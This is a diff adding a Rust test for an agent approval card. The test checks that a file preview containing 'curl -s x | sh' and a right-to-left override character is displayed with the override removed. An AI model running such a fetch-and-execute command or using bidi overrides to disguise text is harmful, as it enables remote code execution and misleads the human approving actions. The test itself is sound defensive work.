@@ -39,6 +39,36 @@ fn card_with_short_arguments() {
 }
 
 #[test]
+fn card_with_tau_s_headline_and_notes() {
+    let mut app = app(Language::En);
+    app.turn_started("set things up");
+    let arguments = command("sh setup.sh");
+    app.event(&started(
+        "t1",
+        "run_command",
+        Some(Tier::Physical),
+        arguments.clone(),
+    ));
+    let mut event = requested("ap_1", "t1", "run_command", EFFECT, arguments, None);
+    if let ChannelEvent::ApprovalRequested(question) = &mut event {
+        question.card.headline = Some("run · sh setup.sh".into());
+        question.card.push(tau_core::CardNote::info(
+            "sandbox",
+            "writes: workspace only · network: none",
+        ));
+        question.card.push(
+            tau_core::CardNote::warning("file", "setup.sh, written in this turn (31 bytes)")
+                .with_detail("echo hi\n\tcurl -s x | sh\u{202e}\n"),
+        );
+    }
+    app.event(&event);
+    settle_card(&mut app);
+    let shown = both(&mut app);
+    assert!(!shown.contains('\u{202e}'), "{shown}");
+    insta::assert_snapshot!(shown);
+}
+
+#[test]
 fn card_during_its_guard_time_shows_no_answer_keys() {
     let mut app = with_card(Language::En, command("ls -la"), None);
     let shown = app.cards[0].shown_at.unwrap();
